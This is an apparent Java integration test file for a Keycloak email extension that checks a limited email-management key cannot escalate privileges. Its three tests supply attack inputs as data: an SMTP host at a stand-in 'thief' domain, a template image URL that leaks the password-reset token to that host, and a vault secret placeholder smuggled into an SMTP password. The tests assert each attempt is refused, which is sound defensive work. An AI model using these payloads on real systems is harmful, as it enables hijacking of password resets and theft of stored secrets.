package dev.banata.keycloak.strength;

import static dev.banata.keycloak.api.AnswerAssert.assertAnswer;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.banata.keycloak.server.Http;
import dev.banata.keycloak.server.Http.Answer;
import java.util.Map;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** The way of mail, and what is in it. */
@Tag("diagonal")
final class WaysInByMailIT extends WaysIn {

  @Test
  void b5_aKeyOfEmailsDoesNotDecideWhereLinksToNewPasswordsGo() {
    Map<String, Object> smtp =
        Map.of("enabled", true, "host", "smtp.thief.example.com", "port", 587);

    Answer saved =
        with("email.manage")
            .post(
                CONFIG + "email-providers/save",
                Map.of("providers", Map.of("smtp", smtp), "from", "hello@example.org"));

    assertAnswer(saved).isRefused(403, ESCALATION);
    assertThat(rest.get("").expect(200).json().at("/smtpServer/host").asText()).isEmpty();
  }

  @Test
  void b5_aKeyOfEmailsDoesNotPutAPictureWithTheTokenIntoAMail() {
    Http key = with("email.manage");
    JsonNode before =
        key.post("/api/auth/banata/emails/templates/get", Map.of("idOrSlug", "password-reset"))
            .expect(200)
            .json();
    String blocks =
        "[{\"id\":\"1\",\"type\":\"image\","
            + "\"src\":\"https://thief.example.com/pixel.png?t={{token}}\",\"alt\":\"x\"}]";

    Answer updated =
        key.post(
            "/api/auth/banata/emails/templates/update",
            Map.of("id", before.at("/template/id").asText(), "blocksJson", blocks));

    assertAnswer(updated).isRefused(403, ESCALATION);
    assertThat(
            key.post("/api/auth/banata/emails/templates/get", Map.of("idOrSlug", "password-reset"))
                .expect(200)
                .json())
        .isEqualTo(before);
  }

  @Test
  void b6_anotherSecretOfTheVaultIsNoPassword() {
    Map<String, Object> request =
        Map.of(
            "providers",
            Map.of(
                "smtp",
                Map.of(
                    "enabled",
                    true,
                    "host",
                    "smtp.thief.example.com",
                    "port",
                    587,
                    "username",
                    "thief",
                    "password",
                    "${vault.ldapbind}")),
            "from",
            "hello@example.org");

    assertAnswer(with("email.manage").post(CONFIG + "email-providers/save", request))
        .isRefused(403, ESCALATION);
    assertAnswer(project.http().post(CONFIG + "email-providers/save", request))
        .isInvalid("providers.smtp.password");
    assertAnswer(
            admins
                .with("manage-realm")
                .http()
                .post(admins.api("banata/config/email-providers/save"), request))
        .isInvalid("providers.smtp.password");
    assertThat(rest.get("").expect(200).json().at("/smtpServer/password").asText()).isEmpty();
  }
}
